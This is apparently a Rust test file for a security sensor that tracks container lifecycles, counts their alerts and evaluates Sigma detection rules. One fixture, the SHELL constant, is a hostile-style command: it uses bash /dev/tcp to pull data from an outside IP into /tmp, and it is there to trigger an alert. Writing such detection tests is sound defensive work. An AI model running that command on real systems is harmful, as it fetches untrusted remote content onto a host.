//! Containers start, are found out, and end.

use super::*;
use crate::event::{ContainerAction, ContainerLife};

const SECOND: u64 = 1_000_000_000;
/// Grave enough to be counted.
const SHELL: &[&str] = &["bash", "-c", "cat </dev/tcp/203.0.113.7/80 >/tmp/f"];

fn gone(time: u64) -> Record {
    let cgroup = Cgroup { id: 77, hierarchy: 0, path: String::new(), target_pid: 0, target_start_time: 0 };
    Record { time, actor: actor(1), body: RecordBody::CgroupRemove(cgroup) }
}

fn observing() -> Pipeline {
    let mut pipeline = pipeline();
    pipeline.observe();
    pipeline
}

fn lives(pipeline: &mut Pipeline) -> Vec<(ContainerLife, Event)> {
    let life = |event: Event| {
        if let Body::ContainerEvent(life) = event.body { Some((life, event)) } else { None }
    };
    pipeline.observed().filter_map(life).collect()
}

fn named(pipeline: &mut Pipeline, now: u64) {
    let identity = pipeline.unnamed(now, usize::MAX).pop().expect("it is asked for");
    let container = Container {
        name: Some("web".to_owned()),
        image: Some("quay.io/shop/web".to_owned()),
        confirmation: Confirmation::Known,
        ..Container::from_cgroup(&identity)
    };
    assert!(pipeline.containers.complete(ID, container));
}

/// The end is looked at twice: what its name decides comes between.
fn settle(pipeline: &mut Pipeline, now: u64) -> Vec<Account> {
    let mut accounts = Vec::new();
    for _ in 0..2 {
        pipeline.settle(now, &mut Paper::default());
        accounts.extend(pipeline.accounts(now));
    }
    accounts
}

#[test]
fn a_container_starts_with_its_first_program_and_ends_with_its_cgroup() {
    let mut pipeline = observing();
    feed(
        &mut pipeline,
        [exec(SECOND, 40, 1, "/bin/sh", &["sh"]), exec(2 * SECOND, 41, 40, "/usr/bin/bash", SHELL)],
    );
    named(&mut pipeline, 3 * SECOND);
    let [(life, start)] = &lives(&mut pipeline)[..] else { panic!("one start") };
    assert_eq!(*life, ContainerLife { action: ContainerAction::Start, age: 0, alerts: 0 });
    assert_eq!(start.process.key.pid, 40);
    feed(&mut pipeline, [gone(9 * SECOND + 1), exit(9 * SECOND + 2, 40)]);
    drop(settle(&mut pipeline, 10 * SECOND));
    let [(life, end)] = &lives(&mut pipeline)[..] else { panic!("one end") };
    assert_eq!(*life, ContainerLife { action: ContainerAction::End, age: 8, alerts: 1 });
    assert_eq!((end.time, end.process.key.pid), (9 * SECOND + 1, 41), "what was found speaks for it");
    assert_eq!(end.container.as_ref().and_then(|it| it.name.as_deref()), Some("web"));
    for (field, expected) in [
        (Field::ContainerAction, "end"),
        (Field::ContainerAge, "8"),
        (Field::ContainerAlertCount, "1"),
        (Field::ContainerImageRegistry, "quay.io"),
    ] {
        assert_eq!(values(end, field), [expected], "{field:?}");
    }
    drop(settle(&mut pipeline, 11 * SECOND));
    assert!(lives(&mut pipeline).is_empty(), "told once");
}

#[test]
fn an_end_waits_for_what_the_name_decides() {
    let rule = "title: Elsewhere\nid: 3d1f1a52-8c0e-4f2b-9d57-0f6d5d9b7c13\nstatus: test\nlevel: high\n\
        logsource:\n  product: linux\n  category: process_creation\n\
        detection:\n  allowed:\n    ContainerImageRegistry: docker.io\n  condition: not allowed\n---\n\
        title: Gone\nid: 3d1f1a52-8c0e-4f2b-9d57-0f6d5d9b7c14\nstatus: test\nlevel: high\n\
        logsource:\n  product: linux\n  category: container_event\n\
        detection:\n  gone:\n    ContainerAction: end\n    ContainerAlertCount|gte: 1\n  condition: gone\n";
    let set = RuleSet::load([sigma::Source::new("life", rule)], &Fields, &sigma::Placeholders::default())
        .expect("the rules load");
    let engine = Engine::new(set);
    let detections = Catalogue::default().bind(engine.rules()).expect("and bind");
    let mut pipeline = Pipeline::new(engine, detections, Stories::default());
    pipeline.observe();
    feed(&mut pipeline, [exec(SECOND, 40, 1, "/bin/sh", &["sh"]), gone(SECOND + 5), exit(SECOND + 6, 40)]);
    drop(settle(&mut pipeline, 2 * SECOND));
    assert!(!lives(&mut pipeline).iter().any(|(life, _)| life.action == ContainerAction::End));
    named(&mut pipeline, 2 * SECOND);
    let accounts = settle(&mut pipeline, 3 * SECOND);
    let [(life, _)] = &lives(&mut pipeline)[..] else { panic!("one end") };
    assert_eq!(life.alerts, 1, "the match that waited for the image");
    let told: Vec<String> = accounts
        .iter()
        .chain(&pipeline.drain())
        .flat_map(|account| account.detections().map(|detection| detection.title.clone()).collect::<Vec<_>>())
        .collect();
    assert!(told.contains(&"Gone".to_owned()), "{told:?}");
}

#[test]
fn what_was_there_before_the_sensor_does_not_start() {
    let mut pipeline = observing();
    let mut process = Process::clone(&crate::sink::sample::event().process);
    (process.key, process.parent, process.cgroup_id) = (key(&actor(40)), None, 77);
    process.key.start_time = SECOND;
    let key = process.key;
    pipeline.seed(vec![(process, format!("/docker/{ID}"))], 50 * SECOND);
    named(&mut pipeline, 50 * SECOND);
    drop(settle(&mut pipeline, 50 * SECOND));
    assert!(lives(&mut pipeline).is_empty());
    feed(&mut pipeline, [gone(61 * SECOND)]);
    drop(settle(&mut pipeline, 62 * SECOND));
    let [(life, end)] = &lives(&mut pipeline)[..] else { panic!("one end") };
    assert_eq!((life.age, end.process.key), (60, key), "its age is that of its oldest process");
}

#[test]
fn a_container_that_is_started_again_has_another_life() {
    let mut pipeline = observing();
    feed(&mut pipeline, [exec(SECOND, 40, 1, "/usr/bin/bash", SHELL), gone(2 * SECOND)]);
    named(&mut pipeline, 2 * SECOND);
    drop(settle(&mut pipeline, 3 * SECOND));
    let mut again = exec(5 * SECOND, 50, 1, "/bin/sh", &["sh"]);
    again.actor.cgroup_id = 78;
    let mut over = gone(8 * SECOND);
    if let RecordBody::CgroupRemove(cgroup) = &mut over.body {
        cgroup.id = 78;
    }
    feed(&mut pipeline, [again, over]);
    drop(settle(&mut pipeline, 9 * SECOND));
    let told: Vec<_> = lives(&mut pipeline).into_iter().map(|(life, _)| life).collect();
    let life = |action, age, alerts| ContainerLife { action, age, alerts };
    assert_eq!(
        told,
        [
            life(ContainerAction::Start, 0, 0),
            life(ContainerAction::End, 1, 1),
            life(ContainerAction::Start, 0, 0),
            life(ContainerAction::End, 3, 0),
        ]
    );
}
